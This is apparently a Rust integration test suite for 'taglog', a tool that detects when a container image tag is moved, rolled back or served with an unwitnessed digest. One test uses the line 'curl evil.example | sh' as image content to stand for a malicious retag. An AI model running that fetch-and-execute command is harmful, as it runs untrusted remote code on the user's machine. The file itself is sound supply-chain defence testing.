//! `taglog` as its users run it: the whole story of a tag that is moved, with a real registry.

// A test fails where it unwraps.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod cli_common;

use cli_common::{User, add, pinned, wait};
use taglog_proto::{name::Digest, note::VerifierKey, time::Timestamp};
use taglog_tests::{
    Data, Registry, Server, Witness,
    process::{PATIENCE, wait_for},
    push_image,
    server::ORIGIN,
    witness::{digest, now},
};

const REPOSITORY: &str = "martes13/harmless";

/// A log that admits the witness whose key `taglog keygen` made for this user.
fn log_for(user: &User) -> (Server, String) {
    let made = user.run(&["keygen", "witness.example/ams-1"]).exits(0);
    let vkey = made.stdout.trim_end().to_owned();
    (Data::init().start_with(&["--witness", &vkey]), vkey)
}

/// The witness's id: its vkey without the key.
fn id_of(vkey: &str) -> String {
    let key: VerifierKey = vkey.parse().unwrap();
    format!("{}+{}", key.name(), key.key_id())
}

struct Story {
    user: User,
    registry: Registry,
    image: String,
    _server: Server,
    witness: String,
}

impl Story {
    fn begin() -> Story {
        let user = User::new();
        let (server, vkey) = log_for(&user);
        user.run(&["init", &server.url, "--yes", "--vkey", &server.vkey.to_string()]).exits(0).says(&[
            ORIGIN,
            &server.url,
            &server.vkey.to_string(),
            "Trusted from now on",
            &vkey,
        ]);
        let registry = Registry::start();
        let image = format!("{}:1.0", registry.repository(REPOSITORY));
        Story { user, registry, image, _server: server, witness: id_of(&vkey) }
    }

    fn push(&self, content: &str) -> Digest {
        push_image(&self.registry, REPOSITORY, "1.0", content)
    }

    fn observe(&self) {
        self.user.run(&["observe", &self.image]).exits(0).says(&[&self.image, "as entry", "manifest kept by the log"]);
    }

    /// The digests in the history, oldest first, with whether each is marked as a rollback.
    fn history(&self) -> Vec<(String, bool)> {
        let answer = self.user.run_json(&["history", &self.image]).exits(0).json();
        let sightings = answer["history"]["sightings"].as_array().unwrap().clone();
        let row = |row: &serde_json::Value| (row["digest"].as_str().unwrap().to_owned(), row["rollback"] == true);
        sightings.iter().map(row).collect()
    }
}

#[test]
fn a_tag_that_is_moved_is_caught_and_stays_on_record() {
    let story = Story::begin();
    let (user, image) = (&story.user, story.image.as_str());
    let first = story.push("harmless");
    story.observe();
    user.run(&["verify", image]).exits(0).says(&["ok ", image, "1 witness vouches", ORIGIN]);
    user.run(&["verify", "--print-digest", image]).exits(0).says(&[&first.to_string()]);

    let second = story.push("curl evil.example | sh");
    user.run(&["verify", image]).exits(1).says(&["mismatch", &first.to_string(), &second.to_string()]);

    story.observe();
    let retagged = user.run(&["verify", image]).exits(1);
    let retagged = retagged.says(&["retagged", "2 different digests", &first.to_string(), &second.to_string()]);
    assert!(retagged.stdout.matches(&story.witness).count() >= 2, "who saw each: {retagged:?}");
    let times = retagged.stdout.split_whitespace().filter(|word| word.parse::<Timestamp>().is_ok()).count();
    assert!(times >= 3, "two sightings and the seal: {retagged:?}");

    // Within one second, the same witness saying the same again is a duplicate, whatever came between.
    let second_began = now();
    wait_for("the next second", PATIENCE, || (now() > second_began).then_some(()));
    let third = story.push("harmless");
    assert_eq!(third, first, "the same content is the same digest");
    story.observe();
    let [a, b] = [first.to_string(), second.to_string()];
    assert_eq!(story.history(), [(a.clone(), false), (b.clone(), false), (a.clone(), true)], "newest last");
    let history = user.run(&["history", image]).exits(0).stdout;
    let lines: Vec<&str> = history.lines().collect();
    assert_eq!(lines[0], image);
    assert!(lines[1].contains(&a) && lines[2].contains(&b) && lines[3].contains(&a), "{history}");
    assert!(lines[3].contains("rolled back") && history.matches("rolled back").count() == 1, "{history}");
    user.run(&["verify", image]).exits(1).says(&["retagged", "rolled back", "the one in question among them"]);
}

#[test]
fn the_json_answer_has_all_that_the_text_has() {
    let story = Story::begin();
    let served = story.push("harmless").to_string();
    story.observe();
    let answer = story.user.run_json(&["verify", &story.image]).exits(0).json();
    let image = &answer["images"][0];
    assert_eq!((&answer["passes"], &answer["errors"]), (&true.into(), &serde_json::json!([])));
    assert_eq!((&image["image"], &image["verdict"]), (&story.image.as_str().into(), &"ok".into()));
    assert_eq!((&image["served"], &image["digest"]), (&served.as_str().into(), &served.as_str().into()));
    let history = &image["logs"][0]["history"];
    let (sighting, witness) = (&history["sightings"][0], &history["witnesses"][0]);
    assert_eq!((&sighting["digest"], &sighting["witness"]), (&served.as_str().into(), &story.witness.as_str().into()));
    assert_eq!(
        (&witness["sightings"], &witness["complete"], &witness["inRoster"]),
        (&1.into(), &true.into(), &true.into())
    );
    assert!(sighting["observed"].as_str().unwrap().parse::<Timestamp>().is_ok(), "{sighting}");
    let log = &answer["logs"][0];
    assert_eq!(log["origin"], ORIGIN);
    assert!(log["size"].as_u64().unwrap() > 2 && log["tags"] == 1 && log["ageSeconds"].as_u64().unwrap() < 60, "{log}");

    let other = story.push("other").to_string();
    let answer = story.user.run_json(&["verify", &story.image]).exits(1).json();
    assert_eq!((&answer["passes"], &answer["images"][0]["verdict"]), (&false.into(), &"mismatch".into()));
    assert_eq!((&answer["images"][0]["served"], &answer["images"][0]["digest"]), (&other.into(), &().into()));
}

#[test]
fn only_digests_that_pass_are_printed() {
    let story = Story::begin();
    let good = story.push("harmless");
    story.observe();
    let repository = story.registry.repository(REPOSITORY);
    let printed = story.user.run(&["verify", "--print-digest", &story.image]).exits(0);
    assert_eq!((printed.stdout, printed.stderr), (format!("{repository}@{good}\n"), String::new()));
    let pinned = format!("{}@{good}", story.image);
    assert_eq!(
        story.user.run(&["verify", "--print-digest", &pinned]).exits(0).stdout,
        format!("{repository}@{good}\n")
    );

    // One that fails withholds the others too: a deploy is all or nothing.
    push_image(&story.registry, "team/unseen", "1.0", "unseen");
    let unseen = format!("{}:1.0", story.registry.repository("team/unseen"));
    let failed = story.user.run(&["verify", "--print-digest", &story.image, &unseen]).exits(1).prints_nothing();
    failed.says(&[&unseen, "uncovered"]);
    story.push("evil");
    story.user.run(&["verify", "--print-digest", &story.image]).exits(1).prints_nothing().says(&["mismatch"]);
}

#[test]
fn several_images_in_one_run() {
    let story = Story::begin();
    story.push("harmless");
    let tools = push_image(&story.registry, "team/tools", "2.0", "tools");
    let tools_image = format!("{}:2.0", story.registry.repository("team/tools"));
    story.user.run(&["observe", &story.image, &tools_image]).exits(0).says(&[&tools.to_string()]);
    push_image(&story.registry, "team/tools", "3.0", "tools 3");
    let unknown = format!("{}:3.0", story.registry.repository("team/tools"));
    story.push("evil");

    let images = [story.image.as_str(), &tools_image, &unknown, &tools_image];
    let answer = story.user.run_json(&[&["verify"][..], &images].concat()).exits(1).json();
    let rows = answer["images"].as_array().unwrap().iter();
    let verdicts: Vec<(&str, &str)> =
        rows.map(|r| (r["image"].as_str().unwrap(), r["verdict"].as_str().unwrap())).collect();
    let want = [(images[0], "mismatch"), (images[1], "ok"), (images[2], "unknown")];
    assert_eq!(verdicts, want, "in the order of the command line, each once");
    story.user.run(&["verify", &tools_image, &tools_image]).exits(0).says(&["ok"]);
    let contradiction = [format!("{tools_image}@{tools}"), pinned(&tools_image, "x")];
    story.user.run(&["verify", &contradiction[0], &contradiction[1]]).exits(2).says(&["twice", "different digests"]);
}

#[test]
fn a_registry_that_is_down_does_not_keep_the_others_from_being_judged() {
    let story = Story::begin();
    story.push("harmless");
    story.observe();
    let gone = Registry::start();
    push_image(&gone, "team/app", "1.0", "app");
    let down = format!("{}:1.0", gone.repository("team/app"));
    story.user.run(&["observe", &down]).exits(0);
    let host = gone.host.clone();
    drop(gone);
    story.user.run(&["verify", &down, &story.image]).exits(3).says(&["ok ", &story.image, &host, "cannot reach"]);
    let answer = story.user.run_json(&["verify", &story.image, &down]).exits(3).json();
    assert_eq!((&answer["passes"], &answer["images"][0]["verdict"]), (&false.into(), &"ok".into()));
    assert!(answer["errors"][0].as_str().unwrap().contains(&down), "{answer}");
    story.user.run(&["verify", "--print-digest", &story.image, &down]).exits(3).prints_nothing().says(&[&down]);
    // What fails weighs more than what could not be asked.
    story.push("evil");
    story.user.run(&["verify", &down, &story.image]).exits(1).says(&["mismatch", &host]);
    // The log alone knows the history, whatever the registry does; and a digest is not asked for.
    story.user.run(&["history", &down]).exits(0).says(&[&down]);
    story.user.run(&["verify", &pinned(&down, "x")]).exits(1).says(&["mismatch"]);
}

#[test]
fn tags_that_may_move() {
    let story = Story::begin();
    let old = story.push("one");
    story.observe();
    let new = story.push("two");
    story.observe();
    let (user, image) = (&story.user, story.image.as_str());
    let moving = ["--moving", "1.0", image];
    assert_eq!(user.verdict(&[image]), "retagged");
    assert_eq!(user.verdict(&moving), "moving");
    assert_eq!(user.verdict(&["--moving", "2.0", image]), "retagged", "another tag may move");
    story.push("one");
    assert_eq!(user.verdict(&moving), "behind");
    user.run(&[&["verify"][..], &moving].concat()).exits(1).says(&["behind", &old.to_string(), &new.to_string()]);
    let unseen = story.push("three");
    assert_eq!(user.verdict(&moving), "mismatch");
    user.run(&[&["verify"][..], &moving].concat()).exits(1).says(&["no witness has seen", &unseen.to_string()]);
    story.observe();
    let printed = user.run(&["verify", "--print-digest", "--moving", "1.0", image]).exits(0);
    assert_eq!(printed.stdout, format!("{}@{unseen}\n", story.registry.repository(REPOSITORY)));
}

#[test]
fn latest_may_move_and_is_meant_when_no_tag_is_named() {
    let witness = Witness::new(1);
    let server = Server::start(&[&witness], "");
    let registry = Registry::start();
    let name = registry.repository("team/app");
    let user = User::witnessing(&server, &witness);
    for content in ["one", "two"] {
        push_image(&registry, "team/app", "latest", content);
        user.run(&["observe", &name]).exits(0).says(&[&format!("{name}:latest")]);
    }
    assert_eq!(user.verdict(&[&name]), "moving");
    assert_eq!(user.verdict(&[&format!("{name}:latest")]), "moving");
    user.run(&["history", &name]).exits(0).says(&[&format!("{name}:latest")]);
}

#[test]
fn the_log_may_be_named_in_place_of_the_one_in_the_trust_file() {
    let witness = Witness::new(1);
    let server = Server::start(&[&witness], "");
    add(&server, &[witness.observe(cli_common::APP, "a", now())]);
    let user = User::new();
    user.write("trust", format!("log {}\nquorum none\n", server.vkey));
    let image = pinned(cli_common::APP, "a");
    user.run(&["verify", &image]).exits(2).says(&["no address", "--log"]);
    user.run(&["verify", &image, "--log", &server.url]).exits(0).says(&["ok"]);
    user.run(&["--log", &format!("{}/", server.url), "verify", &image]).exits(0).says(&["ok"]);
    let mut command = user.command(&["verify", &image]);
    let output = command.env("TAGLOG_LOG", &server.url).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(user.remembered(), [wait(server.checkpoint()).to_string()]);
    assert!(
        user.run(&["verify", "--print-digest", &image, "--log", &server.url]).stdout.contains(&digest("a").to_string())
    );
}
